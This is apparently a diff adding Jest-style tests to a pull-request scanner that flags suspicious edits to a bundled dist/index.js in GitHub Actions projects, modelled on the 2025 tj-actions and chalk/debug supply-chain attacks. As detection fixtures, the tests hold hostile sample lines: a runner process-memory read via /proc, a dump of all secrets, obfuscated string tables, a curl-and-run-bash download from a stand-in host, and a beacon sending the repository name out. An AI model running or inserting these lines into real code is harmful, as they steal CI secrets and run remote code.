@@ -820,6 +820,58 @@ describe('generated-code-edited: a payload in a bundle rebuilt beside a cosmetic
   });
 });
 
+describe('generated-code-edited: the rebuilt-bundle checks on a bundle changed on its own (tj-actions/changed-files, chalk and debug, 2025)', () => {
+  const title = 'chore: update dist';
+  const bundleOnly = (added: string[], removed: string[] = [], options: { author?: { login: string; type: string | null }; checks?: string[] } = {}) =>
+    scanCodeChanges(
+      makeSnapshot({
+        title,
+        files: [makeFile('dist/index.js', { patch: hunk(added, removed) }), makeFile('README.md', { patch: hunk(['Rebuilt the bundle.']) })],
+        commits: [makeCommit({ message: title })],
+        ...(options.author ? { author: options.author } : {}),
+        checkRuns: (options.checks ?? []).map((name) => makeCheckRun(name, { status: 'completed', conclusion: 'success' })),
+      }),
+      (path) => classifier.info(path),
+    ).map((f) => `${f.id} ${f.severity} ${f.line ?? '?'}`);
+  const memdump = ["    const pid = (0, child_process.execSync)('pgrep -f Runner.Worker').toString().trim();", '    const dump = fs.readFileSync(`/proc/${pid}/mem`);'];
+  const table = "var _0x3f2a=['\\x63\\x75\\x72\\x6c','\\x65\\x78\\x65\\x63'];(function(_0x1b2c,_0x4d5e){var _0x2f3a=function(_0x5a6b){while(--_0x5a6b){_0x1b2c['push'](_0x1b2c['shift']());}};_0x2f3a(++_0x4d5e);}(_0x3f2a,0x1a3));var _0x9c1d=function(_0x7e8f,_0x6a7b){return _0x3f2a[_0x7e8f-0x0];};";
+  const hexTable = 'var _$_1e42=["\\x65\\x74\\x68\\x65\\x72\\x65\\x75\\x6d","\\x72\\x65\\x71\\x75\\x65\\x73\\x74","\\x73\\x65\\x6e\\x64\\x54\\x72\\x61\\x6e\\x73\\x61\\x63\\x74\\x69\\x6f\\x6e"];';
+
+  it("names the runner's memory read, an obfuscator table and a download run for what they are, beside generated-code-edited", () => {
+    expect(bundleOnly(memdump)).toEqual(expect.arrayContaining(['credential-store-read high 11', 'credential-store-read high 12', 'generated-code-edited medium 11']));
+    expect(bundleOnly(["    core.info(JSON.stringify(toJSON(secrets)));"])).toEqual(['credential-store-read high 11', 'generated-code-edited medium 11']);
+    expect(bundleOnly([table])).toEqual(['obfuscated-code high 11', 'generated-code-edited medium 11']);
+    expect(bundleOnly([hexTable])).toEqual(['obfuscated-code high 11', 'generated-code-edited medium 11']);
+    // The process run the rules report low is the download run, high, once.
+    expect(bundleOnly(["    (0, child_process.execSync)('curl -sSfL https://raw.cdn-updates.dev/setup.sh -o /tmp/s.sh && bash /tmp/s.sh');"])).toEqual(['shell-command-execution high 11', 'generated-code-edited medium 11']);
+    expect(bundleOnly(["    https.get('https://telemetry.action-metrics.dev/ping?r=' + process.env.GITHUB_REPOSITORY, () => undefined);"])).toEqual(['suspicious-network-endpoint medium 11', 'generated-code-edited medium 11']);
+    const detail = scan([makeFile('dist/index.js', { patch: hunk([table]) })], title).find((f) => f.id === 'obfuscated-code')?.detail;
+    expect(detail).toContain('changes without its source');
+  });
+
+  it('reads a hex-escaped string table in a bundle rebuilt beside its source too', () => {
+    const source = makeFile('src/main.ts', { patch: hunk(['    core.setFailed(`Failed: ${String(error)}`);'], ['    core.setFailed(error.message);']) });
+    const ids = scan([source, makeFile('dist/index.js', { patch: hunk([hexTable]) })]).filter((f) => f.path === 'dist/index.js').map((f) => `${f.id} ${f.severity} ${f.line ?? '?'}`);
+    expect(ids).toEqual(['obfuscated-code high 11']);
+  });
+
+  it('is quiet beyond generated-code-edited on a rebuild of ordinary library code, and when an app or a passing check-dist vouches', () => {
+    const library = [
+      ' * See IssueCommandProperties: https://github.com/actions/runner/blob/main/src/Runner.Worker/ActionCommandManager.cs#L646',
+      '    // Masks the value the way Runner.Worker masks a secret.',
+      "    const core = __importStar(__nccwpck_require__(7484));",
+      "        const res = yield client.getJson(`https://api.github.com/repos/${owner}/${repo}/releases/latest`);",
+      "        const proxyVar = usingSsl ? process.env['https_proxy'] || process.env['HTTPS_PROXY'] : process.env['http_proxy'] || process.env['HTTP_PROXY'];",
+      "    const RED = '\\x1b[31m', RESET = '\\x1b[0m';",
+      "    https.get('https://downloads.acme-tools.dev/manifest.json', (res) => res.pipe(out));",
+    ];
+    const moved = ["    const core = __importStar(__nccwpck_require__(2186));", "    https.get('https://downloads.acme-tools.dev/manifest.json', (res) => res.pipe(out));"];
+    expect(bundleOnly(library, moved)).toEqual(['generated-code-edited medium 11']);
+    expect(bundleOnly(memdump, [], { author: { login: 'github-actions[bot]', type: 'Bot' } })).toEqual([]);
+    expect(bundleOnly([table], [], { checks: ['check-dist'] })).toEqual([]);
+  });
+});
+
 describe('docs/findings.md', () => {
   it('documents exactly the ids these tests cover, in its "Code changes" section', async () => {
     const { readFile } = await import('node:fs/promises');
